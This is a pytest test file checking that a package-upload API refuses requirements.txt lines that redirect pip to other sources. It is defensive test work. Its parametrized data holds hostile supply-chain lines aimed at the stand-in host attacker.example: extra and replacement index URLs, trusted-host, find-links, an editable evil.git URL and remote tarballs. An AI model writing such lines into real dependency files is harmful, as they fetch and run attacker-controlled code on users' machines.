"""A package's requirements.txt can't change where packages come from: a line that would (an
index or find-links option, a nested file, an editable, a URL, a path) is refused at upload,
named, and nothing is stored, unless the operator allows such lines. (At build time too:
tests/pipelines/test_sandbox_builds.py.)"""

import pytest

from packages.models import Package
from tests.conftest import stored_files, upload
from tests.factories import package_zip

URL = "/api/v1/projects/alpha/packages"
INDEX = "http://attacker.example/simple"


def create(api, requirements, name="redirected"):
    content = package_zip(**{"requirements.txt": requirements})
    return api.post(URL, {"name": name, "file": upload(content=content)})


@pytest.mark.parametrize(
    "line",
    [
        f"--extra-index-url {INDEX}",
        f"--index-url={INDEX}",
        f"-i {INDEX}",
        "-f https://attacker.example/wheels/",
        "--find-links /srv/wheels",
        "--trusted-host attacker.example",
        "-e ./src",
        "--editable git+https://attacker.example/evil.git",
        "-r more.txt",
        "-c constraints.txt",
        "--pre",
        "six @ https://attacker.example/six-1.16.0-py3-none-any.whl",
        "https://attacker.example/evil-1.0.tar.gz",
        "git+https://attacker.example/evil.git#egg=evil",
        "./evil",
        "/tmp/evil",
        "file:///tmp/evil",
        "evil-1.0-py3-none-any.whl",
        "six==1.16.0 --config-settings editable_mode=compat",
    ],
)
def test_a_line_that_changes_where_packages_come_from_is_refused_at_upload(api_as, bob, line):
    response = create(api_as(bob), f"numpy>=1.26\n# a comment\n{line}\n")
    assert response.status_code == 400
    errors = response.json()["errors"]["file"]
    assert any(error.startswith(f"requirements.txt line 3: '{line}'") for error in errors)
    assert "AICENTER_REQUIREMENTS_ALLOW_SOURCES=true" in errors[-1]
    assert not Package.objects.exists()
    assert stored_files() == []


def test_every_refused_line_is_named_and_continuations_are_read_as_pip_does(api_as, bob):
    requirements = f"six==1.16.0 \\\n  --index-url {INDEX}\npandas\nx @ {INDEX}/x.whl\n"
    errors = create(api_as(bob), requirements).json()["errors"]["file"]
    assert errors[0].startswith(f"requirements.txt line 1: 'six==1.16.0   --index-url {INDEX}'")
    assert errors[1].startswith(f"requirements.txt line 4: 'x @ {INDEX}/x.whl'")
    assert len(errors) == 3  # and what is allowed, once


def test_names_versions_extras_markers_and_hashes_are_fine(api_as, bob):
    requirements = (
        "numpy>=1.26,<3  # the comment goes\n"
        "pandas[performance]==2.2.*\n"
        'tomli; python_version < "3.11"\n'
        "six==1.16.0 --hash=sha256:8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b0111177132\n"
    )
    assert create(api_as(bob), requirements).status_code == 201


def test_an_operator_may_allow_such_lines(api_as, bob, settings):
    settings.REQUIREMENTS_ALLOW_SOURCES = True
    assert create(api_as(bob), f"--extra-index-url {INDEX}\nsix\n").status_code == 201


def test_a_new_major_version_is_checked_too(api_as, bob):
    api = api_as(bob)
    assert create(api, "six\n").status_code == 201
    content = package_zip(**{"requirements.txt": f"six\n-i {INDEX}\n"})
    response = api.post(f"{URL}/redirected/versions", {"file": upload(content=content)})
    assert response.status_code == 400
    assert f"requirements.txt line 2: '-i {INDEX}'" in response.json()["detail"]


def test_the_form_shows_the_refused_line(pages_as, bob):
    content = package_zip(**{"requirements.txt": f"six\n--extra-index-url {INDEX}\n"})
    response = pages_as(bob).post(
        "/p/alpha/packages/new/",
        {"name": "redirected", "file": upload(content=content), "training_enabled": "on"},
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert f"requirements.txt line 2: &#x27;--extra-index-url {INDEX}&#x27;" in page
    assert "AICENTER_REQUIREMENTS_ALLOW_SOURCES=true" in page
    assert not Package.objects.exists()
